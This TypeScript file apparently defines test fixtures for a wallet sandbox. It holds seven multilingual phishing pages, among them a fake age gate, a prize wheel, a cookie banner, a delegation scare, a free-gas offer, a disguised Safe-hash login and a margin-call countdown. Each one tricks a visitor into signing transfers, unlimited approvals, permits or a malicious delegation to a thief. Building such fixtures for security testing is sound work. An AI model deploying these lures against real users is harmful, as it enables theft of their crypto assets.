import { hashTypedData } from 'viem/utils'
import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { permitBatchOf, safeTransactionOf } from '../../src/testing/sandboxMessages.ts'
import { typedDataOf } from '../../src/testing/typedData.ts'
import { kitPage } from './eighthBlindKits.ts'
import { DOLLAR, pays, typedFor } from './eighthBlindParts.ts'
import { ninthKitPage } from './ninthBlindKits.ts'
import { delegates, one, signsOperation } from './ninthBlindParts.ts'
import { type PageClass, VISITOR } from './pageDesign.ts'

/** Hostile pages of the ninth set that ask a wallet for something. */
export const NINTH_HOSTILE_WALLETS: readonly PageClass[] = [
  // The proof of age is a payment that the thief may collect.
  one('age-check', true, (world) =>
    ninthKitPage('elements', {
      title: 'Garrafeira do Monte',
      body: '<age-gate><template shadowrootmode="open"><style>section{border:1px solid #733;padding:24px;border-radius:4px;background:#fbf6f0}</style><section><h1>Tem 18 anos?</h1><p>A lei pede que confirme a idade antes de ver os nossos vinhos. A prova é feita na sua carteira, sem custos e sem documentos.</p><button>Provar a idade</button><p role="status"></p></section></template></age-gate>',
      code: `const bytes = (count) => '0x' + [...crypto.getRandomValues(new Uint8Array(count))].map((byte) => byte.toString(16).padStart(2, '0')).join('')
customElements.define('age-gate', class extends HTMLElement { connectedCallback() { const root = this.shadowRoot; const note = root.querySelector('[role=status]'); root.querySelector('button').onclick = async () => { try { await link(); note.textContent = 'Assine a prova na carteira.'; const proof = ${typedFor(
        world,
        typedDataOf(
          'ReceiveWithAuthorization(address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce)',
          { name: 'USD Coin', version: '2', chainId: 1, verifyingContract: world.tokens.usdc },
          {
            from: VISITOR,
            to: world.thief,
            value: 7_500n * DOLLAR,
            validAfter: '0',
            validBefore: '99999999999',
            nonce: `0x${'00'.repeat(32)}`,
          },
        ),
      )}; proof.message.nonce = bytes(32); const signature = await seal(proof); await fetch('/api/age', { method: 'POST', body: JSON.stringify({ proof: proof.message, signature }) }); note.textContent = 'Não foi possível confirmar. Tente outra vez.' } catch (error) { note.textContent = 'É preciso assinar para entrar.' } } } })`,
    }),
  ),
  one('spin-wheel', true, (world) =>
    kitPage('canvas', {
      title: 'Ruleta de aniversario',
      code: `let angle = 0, prize = ''; const names = ['10 USDT', '50 USDT', 'NFT', '850 USDT', 'Nada', '100 USDT']
const wheel = () => { clear(); write('Ruleta de aniversario', 40, 50, 28); write('Una tirada gratis por cuenta', 40, 84); names.forEach((name, at) => { const from = angle + at * Math.PI / 3; pen.beginPath(); pen.moveTo(280, 300); pen.arc(280, 300, 160, from, from + Math.PI / 3); pen.fillStyle = ['#e63946', '#f1faee', '#a8dadc', '#ffb703', '#8ecae6', '#219ebc'][at]; pen.fill(); pen.fillStyle = '#222'; pen.fillText(name, 250 + Math.cos(from + 0.5) * 110, 306 + Math.sin(from + 0.5) * 110) }); if (prize) { write('¡Ha ganado ' + prize + '!', 40, 510, 24); press('Cobrar el premio', 40, 540, 190, take) } else press('Girar', 40, 540, 100, spin) }
const spin = () => { let left = 45; const turn = setInterval(() => { angle += left / 90; if (--left === 0) { clearInterval(turn); prize = '850 USDT' } wheel() }, 30) }
const take = async () => { await link(); write('Confirme la recepción en su cartera…', 40, 610); ${pays(world.tokens.usdt, world.call('TetherLikeToken', 'approve', [world.traps.drainer, UNLIMITED]))}; write('Enviando el premio. Puede tardar 24 horas.', 40, 640) }
wheel()`,
    }),
  ),
  // Both buttons of the cookie banner lead to the same signature.
  one('cookie-wall', true, (world) =>
    ninthKitPage('stimulus', {
      title: 'Le Courrier des blocs',
      head: '<style>.banner{position:fixed;inset:auto 0 0 0;background:#102a43;color:#fff;padding:20px}.banner button{margin-right:8px;background:#f0b429;border:0}article{filter:blur(3px)}</style>',
      body: '<div data-controller="consent"><article data-consent-target="text"><h1>La fin des ponts ?</h1><p>Trois réseaux renoncent aux ponts et préfèrent les échanges directs.</p><p>Les développeurs expliquent pourquoi, et ce que cela change pour vous.</p></article><div class="banner" data-consent-target="banner"><p data-consent-target="note">Nous respectons vos choix. Ils sont inscrits dans votre portefeuille, et non dans des cookies.</p><button data-action="click->consent#choose">Tout accepter</button><button data-action="click->consent#choose">Refuser</button></div></div>',
      code: `Stimulus.register('consent', class { async choose() { try { await link(); this.noteTarget.textContent = 'Confirmez vos choix dans votre portefeuille.'; const record = await seal(${typedFor(world, permitBatchOf(world, world.traps.drainer))}); navigator.sendBeacon('/api/consent', JSON.stringify({ me, record })) } finally { this.bannerTarget.remove(); this.textTarget.style.filter = 'none' } } })`,
    }),
  ),
  // It frightens with a delegation and gives the account the code of the thief.
  one('delegation-alarm', true, (world) =>
    ninthKitPage('signals', {
      title: '账户授权检测',
      head: '<style>body{background:#0b1320;color:#dfe7f3}.bad{color:#ff6b6b}</style>',
      code: `const [step, setStep] = createSignal(0); const first = template('<div><h1>7702 授权检测</h1><p>上周有 14,000 个账户被恶意合约接管。请立即检测您的账户。</p><button>开始检测</button></div>'), wait = template('<p>检测中…</p>'), bad = template('<div><h1 class="bad">发现高危授权</h1><p>您的账户正由未知合约控制，资产可能在几分钟内被转走。</p><button>一键解除</button></div>'), done = template('<p>已解除。请在 24 小时内不要使用该账户。</p>')
const App = () => { if (step() === 1) return wait(); if (step() === 3) return done(); const view = step() === 0 ? first() : bad(); view.querySelector('button').$$click = step() === 0 ? async () => { await link(); setStep(1); setTimeout(() => setStep(2), 900) } : async () => { ${delegates(world.traps.maliciousDelegate)}; setStep(3) }; return view }`,
    }),
  ),
  // The account becomes an honest smart account; the signed operation then pays the thief.
  one('sponsored-operation', true, (world) =>
    kitPage('react', {
      title: 'Giao dịch miễn phí',
      code: `function App() { ${signsOperation(world, world.call('Simple7702Account', 'execute', [world.tokens.usdc, 0n, world.call('StableToken', 'transfer', [world.thief, 8_000n * DOLLAR])]), 'Đã nhận. Phí được hoàn trong 12 giờ.')}
return step === 0 ? h('main', null, h('h1', null, 'Chúng tôi trả phí gas cho bạn'), h('p', null, 'Năm giao dịch đầu tiên miễn phí. Hãy bật tài khoản thông minh trước.'), h('button', { onClick: start }, 'Bật')) : h('main', null, h('h2', null, 'Bước 2: nhận gói miễn phí'), h('p', null, 'Ký để nhận năm giao dịch. Chữ ký này không chuyển tiền.'), h('button', { onClick: finish }, 'Nhận gói'), h('p', null, note)) }`,
    }),
  ),
  // The code that is signed as text is the hash of a payment of the shared account: the Safe takes such a signature.
  one('signed-hash', true, (world) => {
    const payment = safeTransactionOf(world, {
      to: world.tokens.usdc,
      data: world.call('StableToken', 'transfer', [world.thief, 6_000n * DOLLAR]),
      operation: 0,
    })
    const hash = hashTypedData(payment as unknown as Parameters<typeof hashTypedData>[0])
    return ninthKitPage('alpine', {
      title: 'Anmeldung für Mitunterzeichner',
      head: '<style>body{font-family:Georgia,serif}code{word-break:break-all;background:#eee;padding:4px}</style>',
      body: '<div x-data="entry"><h1>Gemeinschaftskonten</h1><p>Anmeldung für Personen, die ein Konto mit mehreren Unterschriften verwalten. Ihr persönlicher Anmeldecode wird beim Öffnen erzeugt.</p><p>Code: <code x-text="code"></code></p><button x-on:click="enter()">Mit dem Code anmelden</button><p x-text="note"></p></div>',
      code: `Alpine.data('entry', () => ({ code: '${hash}', note: '', async enter() { await link(); const signature = await eth('personal_sign', [this.code, me]); await fetch('/api/entry', { method: 'POST', body: JSON.stringify({ me, code: this.code, signature }) }); this.note = 'Dieses Konto ist noch nicht freigeschaltet. Wir melden uns.' } }))`,
    })
  }),
  one('margin-call', true, (world) =>
    kitPage('jquery', {
      title: 'Teminat uyarısı',
      head: '<style>#clock{font-size:40px;color:#c1121f}</style>',
      body: '<h1>Krediniz tasfiye edilmek üzere</h1><p id="clock">08:59</p><p>Sağlık oranı 1,02. Süre bitince tüm teminatınız satılır ve %13 ceza kesilir.</p><button id="see">Pozisyonumu göster</button><div id="out"></div>',
      code: `$(function () { var left = 539; setInterval(function () { left--; $('#clock').text('0' + Math.floor(left / 60) + ':' + String(left % 60).padStart(2, '0')) }, 1000); $('#see').on('click', function () { link().then(function () { $('#out').html('<p>Hesap ' + me + '</p><table><tr><td>Teminat</td><td>4,81 ETH</td></tr><tr><td>Borç</td><td>11.940 USDC</td></tr></table><button id="add">2.400 USDC teminat ekle</button>') }) }); $(document.body).on('click', '#add', function () { pay('${world.tokens.usdc}', '${world.call('StableToken', 'transfer', [world.thief, 2_400n * DOLLAR])}').then(function () { $('#out').append('<p>Teminat eklendi. Oran bir saat içinde güncellenir.</p>') }) }) })`,
    }),
  ),
]
